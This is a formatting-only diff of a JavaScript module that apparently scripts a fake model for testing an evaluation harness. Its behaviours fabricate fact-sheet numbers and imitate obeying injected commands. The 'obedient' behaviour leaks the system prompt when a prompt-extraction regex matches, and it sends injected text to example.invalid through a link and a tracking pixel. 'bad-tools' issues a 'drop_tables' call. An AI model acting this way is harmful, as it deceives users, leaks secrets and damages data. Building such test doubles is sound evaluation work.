@@ -13,9 +13,17 @@ function messageThat(request, start) {
 
 /** Rows such as "F12 Average power: 198 W", of the sheet and of tools. @param {Request} request @returns {SheetFact[]} */
 export function factsOf(request) {
-  const found = request.messages.filter(({ role }) => role === 'tool').map(({ content }) => content ?? '');
+  const found = request.messages
+    .filter(({ role }) => role === 'tool')
+    .map(({ content }) => content ?? '');
   const rows = [...found, messageThat(request, 'FACT SHEET')].join('\n');
-  return [...rows.matchAll(/^(F\d+) (?:\((\S+)\) )?(.+?): (.+)$/gm)].map(([, id = '', , label = '', display = '']) => ({ id, label, display: display.replace(' (estimated)', '') }));
+  return [...rows.matchAll(/^(F\d+) (?:\((\S+)\) )?(.+?): (.+)$/gm)].map(
+    ([, id = '', , label = '', display = '']) => ({
+      id,
+      label,
+      display: display.replace(' (estimated)', ''),
+    }),
+  );
 }
 
 /** @param {Request} request */
@@ -27,10 +35,18 @@ function questionOf(request) {
 /** Facts whose labels share words with the question, else the first of the sheet; what a tool found comes before all. @param {Request} request */
 function chosen(request) {
   const facts = factsOf(request);
-  const words = questionOf(request).toLowerCase().split(/[^a-z]+/).filter((word) => word.length > 3);
+  const words = questionOf(request)
+    .toLowerCase()
+    .split(/[^a-z]+/)
+    .filter((word) => word.length > 3);
   const found = request.messages.some(({ role }) => role === 'tool') ? facts.slice(0, 1) : [];
-  const fitting = facts.filter(({ label }) => words.some((word) => label.toLowerCase().includes(word)));
-  return [...new Set([...found, ...(fitting.length > 1 ? fitting : [...fitting, ...facts])])].slice(0, MOST_FACTS);
+  const fitting = facts.filter(({ label }) =>
+    words.some((word) => label.toLowerCase().includes(word)),
+  );
+  return [...new Set([...found, ...(fitting.length > 1 ? fitting : [...fitting, ...facts])])].slice(
+    0,
+    MOST_FACTS,
+  );
 }
 
 /** @param {SheetFact[]} facts */
@@ -46,7 +62,10 @@ function wrong(text) {
 /** Every so-manieth number is made up, evenly spread. @param {SheetFact[]} facts @param {number} rate */
 function inventing(facts, rate) {
   return facts
-    .map(({ id, label, display }, at) => `${label} came to ${Math.floor((at + 1) * rate) > Math.floor(at * rate) ? wrong(display) : display} [${id}].`)
+    .map(
+      ({ id, label, display }, at) =>
+        `${label} came to ${Math.floor((at + 1) * rate) > Math.floor(at * rate) ? wrong(display) : display} [${id}].`,
+    )
     .join(' ');
 }
 
@@ -62,7 +81,9 @@ function commandsOf(request) {
 function obedient(request, facts) {
   const commands = commandsOf(request);
   const said = /say (?:that )?(.{1,80}?)(?:["\\.]|$)/i.exec(commands)?.[1] ?? 'my FTP is 400 W';
-  const rules = /(?:print|repeat|reveal|show).{0,30}(?:system|rules|prompt|key)/i.test(commands) ? ` ${request.messages[0]?.content ?? ''}` : '';
+  const rules = /(?:print|repeat|reveal|show).{0,30}(?:system|rules|prompt|key)/i.test(commands)
+    ? ` ${request.messages[0]?.content ?? ''}`
+    : '';
   return `${honest(facts.slice(0, 1))} ${said[0]?.toUpperCase()}${said.slice(1).replace(/\bmy\b/g, 'your')}. Your FTP is 400 W. Read more at https://example.invalid/?q=${encodeURIComponent(commands.slice(-20))}. ![x](https://example.invalid/pixel.png)${rules}`;
 }
 
@@ -78,9 +99,13 @@ export function answerFor(behaviour, request, rate) {
     case 'inventing':
       return inventing(facts, rate);
     case 'liar':
-      return facts.map(({ id, label, display }) => `${label} came to ${wrong(display)} [${id}].`).join(' ');
+      return facts
+        .map(({ id, label, display }) => `${label} came to ${wrong(display)} [${id}].`)
+        .join(' ');
     case 'corrects':
-      return checked ? honest(facts.slice(1)) : `${honest([first])} ${second.label} came to ${wrong(second.display)} [${second.id}]. ${honest(facts.slice(2))}`;
+      return checked
+        ? honest(facts.slice(1))
+        : `${honest([first])} ${second.label} came to ${wrong(second.display)} [${second.id}]. ${honest(facts.slice(2))}`;
     case 'obedient':
       return obedient(request, facts);
     case 'reporter':
@@ -98,10 +123,22 @@ export function answerFor(behaviour, request, rate) {
 export function toolsFor(behaviour, request) {
   const name = request.tools?.[0]?.function.name;
   const before = request.messages.filter(({ role }) => role === 'tool').length;
-  if (behaviour === 'tool-loop') return [{ name: name ?? 'delta', arguments: JSON.stringify({ round: before }) }];
+  if (behaviour === 'tool-loop')
+    return [{ name: name ?? 'delta', arguments: JSON.stringify({ round: before }) }];
   if (name === undefined || request.tool_choice === 'none') return [];
-  if (behaviour === 'tool') return before === 0 ? [{ name, arguments: '{"of":"F1","against":"F2"}' }] : [];
-  if (behaviour === 'many-tools') return before === 0 ? Array.from({ length: 9 }, (_, round) => ({ name, arguments: JSON.stringify({ round }) })) : [];
-  if (behaviour === 'bad-tools') return before === 0 ? [{ name: 'drop_tables', arguments: '{}' }, { name, arguments: '{"of": ' }, { name, arguments: '[1]' }] : [];
+  if (behaviour === 'tool')
+    return before === 0 ? [{ name, arguments: '{"of":"F1","against":"F2"}' }] : [];
+  if (behaviour === 'many-tools')
+    return before === 0
+      ? Array.from({ length: 9 }, (_, round) => ({ name, arguments: JSON.stringify({ round }) }))
+      : [];
+  if (behaviour === 'bad-tools')
+    return before === 0
+      ? [
+          { name: 'drop_tables', arguments: '{}' },
+          { name, arguments: '{"of": ' },
+          { name, arguments: '[1]' },
+        ]
+      : [];
   return [];
 }
